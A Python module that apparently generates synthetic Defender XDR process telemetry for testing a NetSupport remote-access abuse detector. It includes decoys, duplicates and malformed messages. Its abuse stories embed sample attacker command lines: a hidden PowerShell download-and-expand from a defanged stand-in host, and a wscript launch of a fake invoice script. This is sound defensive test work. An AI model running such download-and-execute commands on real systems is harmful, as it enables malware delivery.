"""A synthetic Defender XDR stream: realistic DeviceProcessEvents in the streaming API envelope.

Deterministic from a seed (and the clock it is given). What it produces:

* a device population (``<dept>-<kind>-<nnn>.corp.example``, 40-hex DeviceIds) whose
  processes are a realistic mix: Windows system processes, browsers, Office, developer
  tools, other RMM tools (AnyDesk, TeamViewer, ScreenConnect, Atera), with their real
  company names, paths, parents and command lines; records of about 1.5 KB;
* NetSupport launches at a chosen ratio on a small set of devices, as stories: abuse
  (``client32.exe`` dropped under ProgramData or a user profile, started by PowerShell,
  wscript or cmd), legitimate installs, and one benign story per bundled exclusion;
* decoys that contain "netsupport" but do not match ``has 'netsupport'``
  (``NetSupportive Health``, ``MyNetSupport``), so the prefilter and the matcher disagree;
* optional duplicates (exact re-sends), late events (older than the window), future-dated
  events, records of another table, and malformed messages.

Timestamps trail the clock by Defender's export delay (1.4 to 6.7 minutes, as public
samples show) and carry 7 fractional digits.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

import orjson

from rmmwatch.kql.datetimes import TICKS_PER_DAY, TICKS_PER_MINUTE, TICKS_PER_SECOND, format_datetime
from rmmwatch.model import Clock, wall_clock

CATEGORY = "AdvancedHunting-DeviceProcessEvents"
NETSUPPORT_COMPANIES = ("NetSupport Ltd", "NetSupport Ltd.", "NETSUPPORT LTD.", "NetSupport Ltd")
DECOY_COMPANIES = ("NetSupportive Health Systems", "MyNetSupport Inc", "NetSupportCare GmbH")

# (file name, folder, company, product, description, original name, typical parents, command line)
_CATALOG: tuple[tuple[str, str, str, str, str, str, tuple[str, ...], str], ...] = (
    (
        "svchost.exe",
        r"C:\Windows\System32",
        "Microsoft Corporation",
        "Microsoft\u00ae Windows\u00ae Operating System",
        "Host Process for Windows Services",
        "svchost.exe",
        ("services.exe",),
        "svchost.exe -k netsvcs -p -s Schedule",
    ),
    (
        "conhost.exe",
        r"C:\Windows\System32",
        "Microsoft Corporation",
        "Microsoft\u00ae Windows\u00ae Operating System",
        "Console Window Host",
        "CONHOST.EXE",
        ("cmd.exe", "powershell.exe"),
        r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
    ),
    (
        "RuntimeBroker.exe",
        r"C:\Windows\System32",
        "Microsoft Corporation",
        "Microsoft\u00ae Windows\u00ae Operating System",
        "Runtime Broker",
        "RuntimeBroker.exe",
        ("svchost.exe",),
        r"C:\Windows\System32\RuntimeBroker.exe -Embedding",
    ),
    (
        "taskhostw.exe",
        r"C:\Windows\System32",
        "Microsoft Corporation",
        "Microsoft\u00ae Windows\u00ae Operating System",
        "Host Process for Windows Tasks",
        "taskhostw.exe",
        ("svchost.exe",),
        "taskhostw.exe Install $(Arg0)",
    ),
    (
        "SearchProtocolHost.exe",
        r"C:\Windows\System32",
        "Microsoft Corporation",
        "Microsoft\u00ae Windows\u00ae Operating System",
        "Microsoft Windows Search Protocol Host",
        "SearchProtocolHost.exe",
        ("SearchIndexer.exe",),
        r'"C:\Windows\system32\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe5_ Global\UsGthrCtrlFltPipeMssGthrPipe5 1 -2147483646 "Software\Microsoft\Windows Search"',
    ),
    (
        "MsMpEng.exe",
        r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0",
        "Microsoft Corporation",
        "Microsoft\u00ae Windows\u00ae Operating System",
        "Antimalware Service Executable",
        "MsMpEng.exe",
        ("services.exe",),
        '"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe"',
    ),
    (
        "chrome.exe",
        r"C:\Program Files\Google\Chrome\Application",
        "Google LLC",
        "Google Chrome",
        "Google Chrome",
        "chrome.exe",
        ("explorer.exe", "chrome.exe"),
        '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US --field-trial-handle=2036,i,8811,1 /prefetch:1',
    ),
    (
        "msedge.exe",
        r"C:\Program Files (x86)\Microsoft\Edge\Application",
        "Microsoft Corporation",
        "Microsoft Edge",
        "Microsoft Edge",
        "msedge.exe",
        ("explorer.exe", "msedge.exe"),
        '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --type=utility --utility-sub-type=network.mojom.NetworkService',
    ),
    (
        "firefox.exe",
        r"C:\Program Files\Mozilla Firefox",
        "Mozilla Corporation",
        "Firefox",
        "Firefox",
        "firefox.exe",
        ("explorer.exe",),
        '"C:\\Program Files\\Mozilla Firefox\\firefox.exe" -contentproc --channel=1820 -childID 5',
    ),
    (
        "WINWORD.EXE",
        r"C:\Program Files\Microsoft Office\root\Office16",
        "Microsoft Corporation",
        "Microsoft Office",
        "Microsoft Word",
        "WinWord.exe",
        ("explorer.exe", "OUTLOOK.EXE"),
        '"C:\\Program Files\\Microsoft Office\\Root\\Office16\\WINWORD.EXE" /n "C:\\Users\\{user}\\Documents\\Q3 budget.docx" /o ""',
    ),
    (
        "EXCEL.EXE",
        r"C:\Program Files\Microsoft Office\root\Office16",
        "Microsoft Corporation",
        "Microsoft Office",
        "Microsoft Excel",
        "Excel.exe",
        ("explorer.exe",),
        '"C:\\Program Files\\Microsoft Office\\Root\\Office16\\EXCEL.EXE" "C:\\Users\\{user}\\Downloads\\invoice_2291.xlsx"',
    ),
    (
        "OUTLOOK.EXE",
        r"C:\Program Files\Microsoft Office\root\Office16",
        "Microsoft Corporation",
        "Microsoft Outlook",
        "Microsoft Outlook",
        "Outlook.exe",
        ("explorer.exe",),
        '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"',
    ),
    (
        "ms-teams.exe",
        r"C:\Program Files\WindowsApps\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe",
        "Microsoft Corporation",
        "Microsoft Teams",
        "Microsoft Teams",
        "ms-teams.exe",
        ("explorer.exe",),
        '"C:\\Program Files\\WindowsApps\\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe\\ms-teams.exe" msteams:system-initiated',
    ),
    (
        "Code.exe",
        r"C:\Users\{user}\AppData\Local\Programs\Microsoft VS Code",
        "Microsoft Corporation",
        "Visual Studio Code",
        "Visual Studio Code",
        "electron.exe",
        ("explorer.exe", "Code.exe"),
        '"C:\\Users\\{user}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe" --type=utility --utility-sub-type=node.mojom.NodeService',
    ),
    (
        "git.exe",
        r"C:\Program Files\Git\cmd",
        "The Git Development Community",
        "Git",
        "Git for Windows",
        "git.exe",
        ("Code.exe", "cmd.exe"),
        "git.exe fetch --no-tags --prune origin",
    ),
    (
        "python.exe",
        r"C:\Users\{user}\AppData\Local\Programs\Python\Python312",
        "Python Software Foundation",
        "Python",
        "Python",
        "python.exe",
        ("cmd.exe", "Code.exe"),
        "python.exe -m pytest tests -q",
    ),
    (
        "node.exe",
        r"C:\Program Files\nodejs",
        "Node.js",
        "Node.js",
        "Node.js JavaScript Runtime",
        "node.exe",
        ("Code.exe", "cmd.exe"),
        '"C:\\Program Files\\nodejs\\node.exe" node_modules\\vite\\bin\\vite.js build',
    ),
    (
        "powershell.exe",
        r"C:\Windows\System32\WindowsPowerShell\v1.0",
        "Microsoft Corporation",
        "Microsoft\u00ae Windows\u00ae Operating System",
        "Windows PowerShell",
        "PowerShell.EXE",
        ("explorer.exe", "cmd.exe", "svchost.exe"),
        "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\IT\\inventory.ps1",
    ),
    (
        "cmd.exe",
        r"C:\Windows\System32",
        "Microsoft Corporation",
        "Microsoft\u00ae Windows\u00ae Operating System",
        "Windows Command Processor",
        "Cmd.Exe",
        ("explorer.exe",),
        'cmd.exe /c "dir /s /b C:\\Users\\{user}\\Desktop"',
    ),
    (
        "OneDrive.exe",
        r"C:\Users\{user}\AppData\Local\Microsoft\OneDrive",
        "Microsoft Corporation",
        "Microsoft OneDrive",
        "Microsoft OneDrive",
        "OneDrive.exe",
        ("explorer.exe",),
        '"OneDrive.exe" /background',
    ),
    (
        "AnyDesk.exe",
        r"C:\Program Files (x86)\AnyDesk",
        "AnyDesk Software GmbH",
        "AnyDesk",
        "AnyDesk",
        "AnyDesk.exe",
        ("services.exe",),
        '"C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe" --service',
    ),
    (
        "TeamViewer.exe",
        r"C:\Program Files\TeamViewer",
        "TeamViewer Germany GmbH",
        "TeamViewer",
        "TeamViewer 15",
        "TeamViewer.exe",
        ("explorer.exe",),
        '"C:\\Program Files\\TeamViewer\\TeamViewer.exe"',
    ),
    (
        "ScreenConnect.ClientService.exe",
        r"C:\Program Files (x86)\ScreenConnect Client (3f2a7c1d9e8b6a54)",
        "ConnectWise, LLC",
        "ScreenConnect",
        "ScreenConnect Client Service",
        "ScreenConnect.ClientService.exe",
        ("services.exe",),
        '"C:\\Program Files (x86)\\ScreenConnect Client (3f2a7c1d9e8b6a54)\\ScreenConnect.ClientService.exe" "?e=Access&y=Guest&h=relay.example.invalid&p=443"',
    ),
    (
        "AteraAgent.exe",
        r"C:\Program Files\ATERA Networks\AteraAgent",
        "Atera networks",
        "AteraAgent",
        "AteraAgent",
        "AteraAgent.exe",
        ("services.exe",),
        '"C:\\Program Files\\ATERA Networks\\AteraAgent\\AteraAgent.exe"',
    ),
    (
        "Zoom.exe",
        r"C:\Users\{user}\AppData\Roaming\Zoom\bin",
        "Zoom Video Communications, Inc.",
        "Zoom Meetings",
        "Zoom Meetings",
        "Zoom.exe",
        ("explorer.exe",),
        '"C:\\Users\\{user}\\AppData\\Roaming\\Zoom\\bin\\Zoom.exe" "--url=zoommtg://zoom.us/join?confno=81234567890"',
    ),
    (
        "vmtoolsd.exe",
        r"C:\Program Files\VMware\VMware Tools",
        "VMware, Inc.",
        "VMware Tools",
        "VMware Tools Core Service",
        "vmtoolsd.exe",
        ("services.exe",),
        '"C:\\Program Files\\VMware\\VMware Tools\\vmtoolsd.exe"',
    ),
    (
        "7zFM.exe",
        r"C:\Program Files\7-Zip",
        "Igor Pavlov",
        "7-Zip",
        "7-Zip File Manager",
        "7zFM.exe",
        ("explorer.exe",),
        '"C:\\Program Files\\7-Zip\\7zFM.exe" "C:\\Users\\{user}\\Downloads\\logs.7z"',
    ),
)

#: Columns a compact record leaves out (session columns of 2024, unique ids, usually-null hashes).
_COMPACT_DROPS = (
    "SHA256",
    "MD5",
    "AccountObjectId",
    "LogonId",
    "ProcessTokenElevation",
    "InitiatingProcessFolderPath",
    "InitiatingProcessParentId",
    "AppGuardContainerId",
    "AdditionalFields",
    "InitiatingProcessSessionId",
    "CreatedProcessSessionId",
    "IsInitiatingProcessRemoteSession",
    "IsProcessRemoteSession",
    "ProcessUniqueId",
    "InitiatingProcessUniqueId",
    "MachineGroup",
)

_DEPARTMENTS = ("fin", "hr", "eng", "ops", "sales", "legal", "it", "mkt", "exec", "sup")
_KINDS = ("ws", "lt", "vdi", "srv")
_FIRST = (
    "jdoe",
    "asmith",
    "bchen",
    "mgarcia",
    "pnovak",
    "kito",
    "lmartin",
    "rpatel",
    "sokafor",
    "tnguyen",
    "vrossi",
    "ylee",
    "dkowalski",
    "hmuller",
    "ejohansson",
    "fsilva",
)


@dataclass(slots=True)
class GeneratorConfig:
    """What to generate. Ratios are per record except ``malformed_ratio`` (per message)."""

    seed: int = 1
    devices: int = 2000
    min_records: int = 1
    max_records: int = 50
    netsupport_ratio: float = 0.001
    netsupport_devices: int = 25
    decoy_ratio: float = 0.0005
    duplicate_ratio: float = 0.0
    late_ratio: float = 0.0
    future_ratio: float = 0.0
    other_table_ratio: float = 0.0
    malformed_ratio: float = 0.0
    compact: bool = False  # leave out the newer and usually-null columns: records of about 1.5 KB
    min_delay_s: float = 84.0
    max_delay_s: float = 402.0
    window_ticks: int = 5 * TICKS_PER_DAY


@dataclass(slots=True)
class GeneratorStats:
    """What was generated so far (for load runs and checks)."""

    messages: int = 0
    records: int = 0
    netsupport: int = 0
    decoys: int = 0
    duplicates: int = 0
    late: int = 0
    future: int = 0
    other_table: int = 0
    malformed: int = 0
    stories: dict[str, int] = field(default_factory=dict)


class Generator:
    """Produces Event Hubs message bodies (bytes), deterministic for a seed and clock."""

    def __init__(self, config: GeneratorConfig | None = None, clock: Clock = wall_clock) -> None:
        self.config = config or GeneratorConfig()
        self.clock = clock
        self.random = random.Random(self.config.seed)
        self.stats = GeneratorStats()
        rnd = self.random
        self.devices = [self._device(i) for i in range(max(1, self.config.devices))]
        count = max(1, min(self.config.netsupport_devices, len(self.devices)))
        self.netsupport_devices = rnd.sample(self.devices, count)
        self._report_id = rnd.randrange(10_000, 90_000)
        self._recent: list[dict[str, Any]] = []
        self._pool = [self._base_row(entry) for entry in _CATALOG for _ in range(64)]
        if self.config.compact:
            for base in self._pool:
                for key in _COMPACT_DROPS:
                    base.pop(key, None)

    # -- building blocks -------------------------------------------------------------------
    def _device(self, index: int) -> dict[str, str]:
        rnd = self.random
        name = f"{rnd.choice(_DEPARTMENTS)}-{rnd.choice(_KINDS)}-{index:04d}.corp.example"
        return {
            "DeviceId": f"{rnd.getrandbits(160):040x}",
            "DeviceName": name,
            "user": rnd.choice(_FIRST),
            "sid": f"S-1-5-21-1004336348-1177238915-682003330-{1000 + index}",
        }

    def _timestamp(self, now: int) -> int:
        cfg = self.config
        delay = self.random.uniform(cfg.min_delay_s, cfg.max_delay_s)
        return now - int(delay * TICKS_PER_SECOND) - self.random.randrange(TICKS_PER_SECOND)

    def _base_row(self, entry: tuple[Any, ...]) -> dict[str, Any]:
        """A process launch without its device, user and times (the pool's unit)."""
        rnd = self.random
        file_name, folder, company, product, description, original, parents, command = entry
        parent = rnd.choice(parents)
        return {
            "Timestamp": None,
            "DeviceId": None,
            "DeviceName": None,
            "ActionType": "ProcessCreated",
            "FileName": file_name,
            "FolderPath": f"{folder}\\{file_name}",
            "SHA1": f"{rnd.getrandbits(160):040x}",
            "SHA256": None,
            "MD5": None,
            "FileSize": rnd.randrange(20_000, 4_000_000),
            "ProcessVersionInfoCompanyName": company,
            "ProcessVersionInfoProductName": product,
            "ProcessVersionInfoProductVersion": f"{rnd.randrange(1, 30)}.{rnd.randrange(0, 10)}.{rnd.randrange(0, 9999)}",
            "ProcessVersionInfoInternalFileName": original.rsplit(".", 1)[0],
            "ProcessVersionInfoOriginalFileName": original,
            "ProcessVersionInfoFileDescription": description,
            "ProcessId": None,
            "ProcessCommandLine": command,
            "ProcessIntegrityLevel": rnd.choice(("Medium", "High", "System")),
            "ProcessTokenElevation": rnd.choice(("TokenElevationTypeDefault", "TokenElevationTypeLimited")),
            "ProcessCreationTime": None,
            "AccountDomain": "corp",
            "AccountName": None,
            "AccountSid": None,
            "AccountUpn": None,
            "AccountObjectId": None,
            "LogonId": rnd.randrange(100_000, 9_999_999),
            "InitiatingProcessAccountDomain": "corp",
            "InitiatingProcessAccountName": None,
            "InitiatingProcessFileName": parent,
            "InitiatingProcessFolderPath": f"c:\\windows\\system32\\{parent.lower()}",
            "InitiatingProcessCommandLine": parent,
            "InitiatingProcessId": rnd.randrange(4, 65_000, 4),
            "InitiatingProcessParentFileName": rnd.choice(
                ("explorer.exe", "services.exe", "wininit.exe", "userinit.exe")
            ),
            "InitiatingProcessParentId": rnd.randrange(4, 65_000, 4),
            "InitiatingProcessSignerType": "OsVendor",
            "InitiatingProcessSignatureStatus": "Valid",
            "ReportId": None,
            "AppGuardContainerId": "",
            "AdditionalFields": None,
            "InitiatingProcessSessionId": rnd.randrange(0, 4),
            "CreatedProcessSessionId": rnd.randrange(0, 4),
            "IsInitiatingProcessRemoteSession": False,
            "IsProcessRemoteSession": False,
            "ProcessUniqueId": str(rnd.getrandbits(40)),
            "InitiatingProcessUniqueId": str(rnd.getrandbits(40)),
            "MachineGroup": None,
        }

    def _row(self, device: dict[str, str], ticks: int) -> dict[str, Any]:
        """A process launch on ``device`` at ``ticks``: a pooled base row, personalised."""
        rnd = self.random
        row = dict(rnd.choice(self._pool))
        user = device["user"]
        self._report_id += 1
        row["Timestamp"] = format_datetime(ticks)
        row["DeviceId"] = device["DeviceId"]
        row["DeviceName"] = device["DeviceName"]
        row["ProcessId"] = rnd.randrange(4, 65_000, 4)
        row["ProcessCreationTime"] = format_datetime(ticks - rnd.randrange(TICKS_PER_SECOND))
        row["AccountName"] = user
        row["InitiatingProcessAccountName"] = user
        row["AccountSid"] = device["sid"]
        row["AccountUpn"] = f"{user}@corp.example"
        row["ReportId"] = self._report_id
        if "{user}" in row["FolderPath"] or "{user}" in row["ProcessCommandLine"]:
            row["FolderPath"] = row["FolderPath"].replace("{user}", user)
            row["ProcessCommandLine"] = row["ProcessCommandLine"].replace("{user}", user)
        return row

    def _netsupport(self, row: dict[str, Any], device: dict[str, str]) -> str:
        """Turn a row into a NetSupport launch; returns the story's name."""
        rnd = self.random
        user = device["user"]
        row["ProcessVersionInfoCompanyName"] = rnd.choice(NETSUPPORT_COMPANIES)
        row["ProcessVersionInfoProductName"] = "NetSupport Remote Control"
        row["ProcessVersionInfoFileDescription"] = "NetSupport Client Application"
        component = rnd.choices(("client32.exe", "pcictlui.exe", "pcicfgui.exe", "remcmdstub.exe"), (8, 1, 1, 1))[0]
        row["FileName"] = component
        row["ProcessVersionInfoOriginalFileName"] = component
        row["ProcessVersionInfoInternalFileName"] = component.rsplit(".", 1)[0]
        story = rnd.choices(
            (
                "abuse-programdata",
                "abuse-userprofile",
                "legitimate-install",
                "schtasks",
                "it-support",
                "group-policy",
                "monitoring",
                "task-scheduler",
            ),
            (30, 25, 15, 6, 6, 6, 6, 6),
        )[0]
        legit = r"C:\Program Files (x86)\NetSupport\NetSupport Manager"
        if story == "abuse-programdata":
            folder = f"C:\\ProgramData\\{rnd.choice(('SecurityCheck_v1', 'MSUpdate', 'WinCache', 'Adobe_Sync'))}"
            row["InitiatingProcessFileName"] = rnd.choice(("powershell.exe", "wscript.exe", "cmd.exe"))
            row["ProcessCommandLine"] = f'"{folder}\\{component}" '
            row["InitiatingProcessCommandLine"] = (
                'powershell.exe -w h -c "iwr hxxp://update.example.invalid/fw.zip -OutFile $env:TEMP\\fw.zip; '
                'Expand-Archive $env:TEMP\\fw.zip C:\\ProgramData"'
            )
        elif story == "abuse-userprofile":
            folder = f"C:\\Users\\{user}\\AppData\\Roaming\\{rnd.choice(('Client', 'Rtxw', 'Nsm2'))}"
            row["InitiatingProcessFileName"] = rnd.choice(("wscript.exe", "explorer.exe", "powershell.exe"))
            row["ProcessCommandLine"] = f"{folder}\\{component} /I"
            row["InitiatingProcessCommandLine"] = f'wscript.exe "C:\\Users\\{user}\\Downloads\\Invoice-8812.js"'
        else:
            folder = legit
            command = f'"{legit}\\{component}" '
            if story == "schtasks":
                row["InitiatingProcessFileName"] = "schtasks.exe"
            elif story == "it-support":
                row["AccountName"] = "ITSupportUser"
            elif story == "group-policy":
                row["InitiatingProcessFileName"] = "gpupdate.exe"
                command += "/GroupPolicy"
            elif story == "monitoring":
                command += rnd.choice(("/monitor", "/report"))
            elif story == "task-scheduler":
                row["InitiatingProcessFileName"] = "TaskScheduler"
            else:
                row["InitiatingProcessFileName"] = "services.exe"
            row["ProcessCommandLine"] = command
        row["FolderPath"] = f"{folder}\\{component}"
        return story

    def record(self, now: int) -> dict[str, Any]:
        """One envelope record (category, properties...) at clock time ``now``."""
        cfg = self.config
        rnd = self.random
        roll = rnd.random()
        stats = self.stats
        if self._recent and roll < cfg.duplicate_ratio:
            stats.duplicates += 1
            return rnd.choice(self._recent)
        roll -= cfg.duplicate_ratio
        ticks = self._timestamp(now)
        if roll < cfg.netsupport_ratio:
            device = rnd.choice(self.netsupport_devices)
            row = self._row(device, ticks)
            story = self._netsupport(row, device)
            stats.netsupport += 1
            stats.stories[story] = stats.stories.get(story, 0) + 1
        else:
            device = rnd.choice(self.devices)
            row = self._row(device, ticks)
            roll -= cfg.netsupport_ratio
            if roll < cfg.decoy_ratio:
                row["ProcessVersionInfoCompanyName"] = rnd.choice(DECOY_COMPANIES)
                stats.decoys += 1
        roll = rnd.random()
        if roll < cfg.late_ratio:
            row["Timestamp"] = format_datetime(ticks - cfg.window_ticks - rnd.randrange(TICKS_PER_DAY))
            stats.late += 1
        elif roll < cfg.late_ratio + cfg.future_ratio:
            row["Timestamp"] = format_datetime(now + rnd.randrange(TICKS_PER_MINUTE, 10 * TICKS_PER_MINUTE))
            stats.future += 1
        category = CATEGORY
        if rnd.random() < cfg.other_table_ratio:
            category = "AdvancedHunting-DeviceNetworkEvents"
            stats.other_table += 1
        received = now - rnd.randrange(30 * TICKS_PER_SECOND)
        record = {
            "time": format_datetime(now),
            "tenantId": "00000000-0000-0000-0000-000000000001",
            "operationName": "Publish",
            "category": category,
            "_TimeReceivedBySvc": format_datetime(received),
            "properties": row,
        }
        if cfg.duplicate_ratio:
            if len(self._recent) >= 256:
                self._recent[rnd.randrange(256)] = record
            else:
                self._recent.append(record)
        return record

    def message(self) -> bytes:
        """One Event Hubs message body: ``{"records": [...]}`` of 1..N records (or a malformed one)."""
        cfg = self.config
        rnd = self.random
        now = self.clock()
        count = rnd.randint(cfg.min_records, cfg.max_records)
        records = [self.record(now) for _ in range(count)]
        self.stats.messages += 1
        self.stats.records += count
        if rnd.random() < cfg.malformed_ratio:
            self.stats.malformed += 1
            return self._malformed(records)
        return orjson.dumps({"records": records})

    def _malformed(self, records: list[dict[str, Any]]) -> bytes:
        """A broken message that still mentions NetSupport, so decode (not the prefilter) sees it."""
        rnd = self.random
        kind = rnd.randrange(6)
        good = orjson.dumps({"records": records})
        if kind == 0:
            return good[: len(good) // 2] + b'"NetSupport Ltd'  # truncated JSON
        if kind == 1:
            return b'{"records":[{"properties":{"ProcessVersionInfoCompanyName":"NetSupport \xff\xfe Ltd"}}]}'
        if kind == 2:
            return b'{"records":{"ProcessVersionInfoCompanyName":"NetSupport Ltd"}}'
        if kind == 3:
            row = dict(records[0].get("properties", {}))
            row["ProcessVersionInfoCompanyName"] = 12345
            row["FileName"] = "client32.exe netsupport"
            return orjson.dumps({"records": [{"category": CATEGORY, "properties": row}]})
        if kind == 4:
            row = dict(records[0].get("properties", {}))
            row["Timestamp"] = "2026-13-45T99:00:00Z"
            row["ProcessVersionInfoCompanyName"] = "NetSupport Ltd"
            return orjson.dumps({"records": [{"category": CATEGORY, "properties": row}]})
        return b'"NetSupport Ltd"'

    def messages(self, count: int | None = None) -> Iterator[bytes]:
        produced = 0
        while count is None or produced < count:
            yield self.message()
            produced += 1
